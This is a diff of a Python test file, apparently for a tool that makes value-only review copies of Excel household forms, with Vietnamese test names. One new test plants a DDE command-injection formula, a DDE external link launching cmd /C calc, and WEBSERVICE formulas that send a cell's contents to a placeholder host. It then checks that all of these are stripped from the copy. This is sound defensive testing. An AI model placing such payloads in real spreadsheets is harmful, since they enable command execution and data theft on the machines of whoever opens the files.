@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import io
+import re
 import zipfile
 from pathlib import Path
 from typing import Any
@@ -116,7 +117,8 @@ def test_chu_khong_thanh_cong_thuc(tmp_path: Path, text: str) -> None:
         sheet.write_string("A1", text)
         sheet.write_formula("A2", "=SUM(B1:B2)", None, 3)
     copy = copied(path, tmp_path / "b.xlsx", problem(text=text, household=text))
-    assert sheet_xml(tmp_path / "b.xlsx").count("<f>") == 1
+    assert "<f>" not in sheet_xml(tmp_path / "b.xlsx")
+    assert copy["Hộ"]["A2"].value == 3
     assert (copy["Hộ"]["A1"].value, copy["Hộ"]["A1"].data_type) == (text, "s")
     assert copy["Lỗi"].cell(FIRST, 6).value == text
 
@@ -130,20 +132,112 @@ def test_ten_nguoi_duoc_che(tmp_path: Path) -> None:
         assert ("Nguyễn Văn Tám" in everything) is show
 
 
-def test_macro_cua_xlsm_duoc_giu(tmp_path: Path) -> None:
-    path, macro = tmp_path / "a.xlsm", b"khong phai macro that"
-    (tmp_path / "vbaProject.bin").write_bytes(macro)
-    with xlsxwriter.Workbook(str(path)) as workbook:
+def test_khong_cong_thuc_macro_lien_ket_nao_cua_phieu_duoc_chep(tmp_path: Path) -> None:
+    """An officer's own file may hold anything; what goes on from here holds values."""
+    plain, path = tmp_path / "p.xlsm", tmp_path / "a.xlsm"
+    (tmp_path / "vbaProject.bin").write_bytes(b"khong phai macro that")
+    with xlsxwriter.Workbook(str(plain)) as workbook:
         sheet = workbook.add_worksheet("Hộ")
         sheet.write_comment("H4", "Ghi chú cũ")
+        sheet.write_formula("A1", "=SUM(B1:B2)", None, 3)
+        sheet.write_formula("A2", "=cmd|'/C calc'!A0", None, "DDE")
+        sheet.write_formula("A3", "='[sach-khac.xlsx]Trang'!A1", None, "khác")
+        sheet.write_formula("A4", '=WEBSERVICE("http://vi-du.invalid/"&H4)', None, "")
+        sheet.write_array_formula("A5:A6", "{=B1:B2*2}", None, 4)
+        sheet.write_url("B1", "http://vi-du.invalid/", None, "bấm vào đây")
+        sheet.write_url("B2", "external:khac.xlsx#Trang!A1", None, "tệp khác")
+        sheet.write_url("B3", "internal:'Hộ'!A1", None, "ô kia")
+        workbook.define_name("Ngoai", "='[sach-khac.xlsx]Trang'!$A$1")
+        workbook.define_name("Tinh", '=WEBSERVICE("http://vi-du.invalid/")')
+        workbook.define_name("O", "='Hộ'!$A$1")
+        sheet.data_validation("C1", {"validate": "list", "source": "='Hộ'!$H$1:$H$9"})
+        sheet.data_validation("C2", {"validate": "list", "source": ["Nam (1)", "Nữ"]})
+        sheet.data_validation("C3", {"validate": "custom", "value": '=WEBSERVICE("http://vi-du.invalid")=1'})
+        sheet.conditional_format("D1", {"type": "formula", "criteria": "=COUNTIF(A1:A9,A1)>1"})
+        sheet.conditional_format("D2", {"type": "cell", "criteria": ">", "value": 5})
+        sheet.conditional_format(
+            "D3", {"type": "2_color_scale", "min_type": "formula", "min_value": "=MIN(A1)"}
+        )
+        sheet.add_table(
+            "F1:G3", {"columns": [{"header": "Một"}, {"header": "Hai", "formula": "=SUM(A1:A2)"}]}
+        )
+        chart = workbook.add_chart({"type": "bar"})
+        chart.add_series({"values": "='Hộ'!$A$1:$A$2"})
+        sheet.insert_chart("J1", chart)
         workbook.add_vba_project(str(tmp_path / "vbaProject.bin"))
-    target = tmp_path / "b.xlsm"
-    annotate(path, target, [problem()])
-    held = parts(target)
-    assert held["xl/vbaProject.bin"] == macro
-    assert b"macroEnabled" in held["[Content_Types].xml"]
-    text = openpyxl.load_workbook(target, keep_vba=True)["Hộ"]["H4"].comment.text
-    assert text.startswith("Ghi chú cũ\n\nHN101")
+        workbook.set_properties({"author": "Người Lập", "company": "Cơ quan", "title": "Tên"})
+        workbook.set_custom_property("noi", "C:/Users/nguoi-lap")
+    # A link to another workbook, as Excel stores it.
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
+    part = "externalLinks/externalLink1.xml"
+    more = {
+        "xl/workbook.xml": (
+            "</sheets>",
+            '</sheets><externalReferences><externalReference r:id="rId77"/></externalReferences>',
+        ),
+        "xl/_rels/workbook.xml.rels": (
+            "</Relationships>",
+            f'<Relationship Id="rId77" Type="{office}/externalLink" Target="{part}"/></Relationships>',
+        ),
+        "[Content_Types].xml": (
+            "</Types>",
+            f'<Override PartName="/xl/{part}" ContentType="{kind}"/></Types>',
+        ),
+    }
+    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as out:
+        for name in source.namelist():
+            old, new = (text.encode() for text in more.get(name, ("", "")))
+            out.writestr(name, source.read(name).replace(old, new) if old else source.read(name))
+        main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+        link = f'<externalLink xmlns="{main}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
+        out.writestr(f"xl/{part}", link)
+    assert copy_names([path]) == ["a.xlsx"]
+    copy = copied(path, tmp_path / "b.xlsx", problem())
+    held = parts(tmp_path / "b.xlsx")
+    everything = b"".join(held.values()).decode()
+    for bad in (
+        "<f>",
+        "<f ",
+        "vba",
+        "macroEnabled",
+        "externalLink",
+        "ddeLink",
+        "TargetMode",
+        "cmd|",
+        "[sach",
+        "WEBSERVICE",
+        "COUNTIF",
+        "MIN(",
+        "SUM(",
+        "calculatedColumnFormula",
+        "Người Lập",
+        "Cơ quan",
+        "Users",
+    ):
+        assert bad not in everything, bad
+    assert not [
+        n for n in held if re.search(r"chart|pivot|drawing\d|custom|external|media|query|connection", n)
+    ]
+    sheet = copy["Hộ"]
+    assert [sheet[f"A{n}"].value for n in range(1, 7)] == [3, "DDE", "khác", None, 4, 0]
+    assert [sheet[f"B{n}"].value for n in range(1, 4)] == ["bấm vào đây", "tệp khác", "ô kia"]
+    assert sheet["B3"].hyperlink.location == "'Hộ'!A1"
+    assert list(copy.defined_names) == ["O"]
+    assert [str(v.sqref) for v in sheet.data_validations.dataValidation] == ["C1", "C2"]
+    assert [str(area.sqref) for area in sheet.conditional_formatting] == ["D2"]
+    assert sheet["H4"].comment.text.startswith("Ghi chú cũ\n\nHN101")
+    said = copy["Lỗi"]["A3"].value
+    assert said.startswith("Bản sao để xem; sửa ở tệp gốc.")
+    for what in (
+        "macro",
+        "liên kết tới tệp khác",
+        "công thức (",
+        "biểu đồ",
+        "đường dẫn ra ngoài",
+        "tên tính",
+    ):
+        assert what in said, what
 
 
 def test_noi_ro_cai_gi_khong_giu_duoc(tmp_path: Path) -> None:
@@ -160,7 +254,7 @@ def test_noi_ro_cai_gi_khong_giu_duoc(tmp_path: Path) -> None:
     for what in ("SmartArt", "đối tượng nhúng (OLE)", "hình vẽ, hộp chữ", "biểu đồ nhỏ", "có điều kiện"):
         assert what in said
     plain = copied(book(tmp_path / "c.xlsx"), tmp_path / "d.xlsx", problem())["Lỗi"]["A3"].value
-    assert "không giữ được" not in plain
+    assert "không có" not in plain
 
 
 def test_cung_tep_cung_byte(tmp_path: Path) -> None:
@@ -172,7 +266,7 @@ def test_cung_tep_cung_byte(tmp_path: Path) -> None:
 
 def test_hai_tep_cung_ten() -> None:
     files = [Path("a/x.xlsx"), Path("b/X.xlsx"), Path("c/x-2.xlsx"), Path("d/x.xlsx"), Path("y.xlsm")]
-    assert copy_names(files) == ["x.xlsx", "X-2.xlsx", "x-2-2.xlsx", "x-3.xlsx", "y.xlsm"]
+    assert copy_names(files) == ["x.xlsx", "X-2.xlsx", "x-2-2.xlsx", "x-3.xlsx", "y.xlsx"]
 
 
 def names(result: Result) -> list[str]:
